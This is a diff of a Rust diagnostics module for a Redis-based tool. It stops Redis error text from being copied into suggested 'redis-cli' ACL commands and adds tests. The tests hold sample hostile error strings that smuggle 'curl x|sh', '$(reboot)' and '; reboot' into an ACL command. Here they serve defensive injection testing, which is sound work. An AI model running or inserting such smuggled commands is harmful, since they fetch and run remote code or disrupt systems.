@@ -1,11 +1,13 @@
 //! Checks of the connection from this machine.
 
+use std::collections::BTreeSet;
 use std::time::Duration;
 
-use crate::commands::doctor::command::quoted;
+use crate::commands::doctor::command::url;
 use crate::commands::doctor::facts::{Echo, Facts, MissingRules, Part, Role, Server};
 use crate::commands::doctor::finding::{Finding, each, joined};
 use tidings::TopologyKind;
+use tidings::acl::Permissions;
 
 /// A round trip within one data center is shorter.
 const SLOW: Duration = Duration::from_millis(50);
@@ -14,6 +16,10 @@ const SLOW: Duration = Duration::from_millis(50);
 const APART: u64 = 1_000;
 
 pub(crate) fn reach(facts: &Facts) -> Vec<Finding> {
+    if let Some(error) = &facts.unlocated {
+        let text = format!("cannot find the servers behind the address: {error}");
+        return vec![Finding::error(text).cure(facts.tidings(&["servers"]))];
+    }
     let silent = facts.servers.iter().filter_map(|server| {
         let error = server.state.as_ref().err()?;
         let hint = match facts.topology {
@@ -65,9 +71,9 @@ pub(crate) fn role(facts: &Facts) -> Vec<Finding> {
             Role::Replica => {
                 let host = state.info("master_host").unwrap_or("HOST");
                 let port = state.info("master_port").unwrap_or("PORT");
+                let address = url(host, port, facts.is_tls);
                 let text = "the address names a replica: what it receives, its master does not";
-                let address = format!("redis://{host}:{port}");
-                Finding::error(text).cure(format!("tidings doctor --url {}", quoted(&address)))
+                Finding::error(text).cure(facts.doctor_at(&address))
             }
             _ => Finding::skipped("the server does not say its role"),
         }))
@@ -97,7 +103,7 @@ pub(crate) fn bus(facts: &Facts) -> Vec<Finding> {
         Ok(_) => vec![Finding::ok("a bus starts, and may receive")],
         Err(refusal) => {
             let text = format!("a bus cannot start: {}", refusal.text);
-            vec![with_cure(Finding::error(text), &refusal.text)]
+            vec![with_rules(facts, Finding::error(text), &refusal.text)]
         }
     }
 }
@@ -111,23 +117,49 @@ pub(crate) fn echo(facts: &Facts) -> Vec<Finding> {
         Echo::Unknown(why) => Finding::skipped(why),
         Echo::NotSent(why) => {
             let text = format!("a bus cannot send: {why}");
-            with_cure(Finding::error(text), why)
+            with_rules(facts, Finding::error(text), why)
         }
         Echo::Missing(time) => Finding::error(format!(
             "an event of this bus did not come back within {time:?}: it is sent to another server \
              than it is received from"
         ))
-        .cure(format!("tidings listen -n {}", quoted(&facts.namespace))),
+        .cure(facts.tidings(&["listen"])),
     }]
 }
 
-/// Errors of Redis that have a cure name it: `… ACL SETUSER shop +publish`.
-fn with_cure(finding: Finding, error: &str) -> Finding {
-    let Some(start) = error.find("ACL SETUSER") else {
+/// Adds the rules that an error names to each server that answers.
+fn with_rules(facts: &Facts, finding: Finding, error: &str) -> Finding {
+    let rules = missing_rules(&facts.namespace, error);
+    if rules.is_empty() {
         return finding;
+    }
+    let cures = facts.answering().map(|(server, state)| {
+        let mut words = vec!["ACL", "SETUSER", &*state.user];
+        words.extend(rules.iter().map(String::as_str));
+        server.cli(&words)
+    });
+    cures.fold(finding, Finding::cure)
+}
+
+/// Returns the rules that an error names, of those that a bus needs. An error has words of Redis, which
+/// must not become a part of a command.
+fn missing_rules(namespace: &str, error: &str) -> Vec<String> {
+    let Ok(bus) = Permissions::of_bus(namespace) else {
+        return Vec::new();
     };
-    let command = error[start..].trim_end_matches(')');
-    finding.cure(format!("redis-cli {command}"))
+    let bus = bus.be_member().check_role().select_database().find_nodes();
+    let needed = format!("{bus} {}", bus.clone().shard());
+    let needed: BTreeSet<_> = needed.split(' ').collect();
+    let of_database = format!("&tidings:{{{namespace}}}/");
+    let is_rule = |word: &&str| {
+        let database = word.strip_prefix(&of_database);
+        let is_needed = word.starts_with(['+', '&', '~']) && needed.contains(word);
+        is_needed || database.is_some_and(|number| number.parse::<u32>().is_ok())
+    };
+    let words = error.split_whitespace();
+    let words = words.map(|word| word.trim_matches(['\'', '(', ')']));
+    let rules: BTreeSet<_> = words.filter(is_rule).collect();
+    rules.into_iter().map(str::to_owned).collect()
 }
 
 pub(crate) fn databases(facts: &Facts) -> Vec<Finding> {
@@ -171,4 +203,50 @@ fn lacking(facts: &Facts, server: &Server, missing: &MissingRules) -> Finding {
     let mut words = vec!["ACL", "SETUSER", user];
     words.extend(missing.rules.iter().map(String::as_str));
     Finding::warning(text).cure(server.cli(&words))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::commands::doctor::facts::{Refusal, State};
+    use crate::commands::doctor::finding::Severity;
+
+    fn cures_of(error: &str) -> Vec<String> {
+        let state = State {
+            user: "o'brien".to_owned(),
+            ..State::default()
+        };
+        let server = Server::with("10.0.0.7:6379", state);
+        let text = error.to_owned();
+        let facts = Facts {
+            bus: Err(Refusal { text }),
+            ..Facts::of(TopologyKind::Standalone, vec![server])
+        };
+        bus(&facts).remove(0).cures
+    }
+
+    #[test]
+    fn an_error_of_redis_does_not_become_a_command_of_the_shell() {
+        for hostile in [
+            "redis says `ERR run ACL SETUSER a; curl x|sh`",
+            "redis says `NOPERM ACL SETUSER a +@all $(reboot)`",
+        ] {
+            assert!(cures_of(hostile).is_empty(), "{hostile}");
+        }
+        let both = "redis says `NOPERM ACL SETUSER a; reboot` (an administrator can grant it: \
+                    ACL SETUSER a '&tidings:{shop}' '&tidings:{shop}/3' +publish)";
+        let cure = r"redis-cli -h 10.0.0.7 -p 6379 --tls ACL SETUSER 'o'\''brien' '&tidings:{shop}' '&tidings:{shop}/3' +publish";
+        assert_eq!(cures_of(both), [cure]);
+    }
+
+    #[test]
+    fn servers_that_are_not_found_are_an_error() {
+        let facts = Facts {
+            unlocated: Some("no node answers".to_owned()),
+            ..Facts::of(TopologyKind::Cluster, Vec::new())
+        };
+        let findings = reach(&facts);
+        assert_eq!(findings[0].severity, Severity::Error);
+        assert_eq!(findings[0].cures, ["tidings servers -c production"]);
+    }
 }
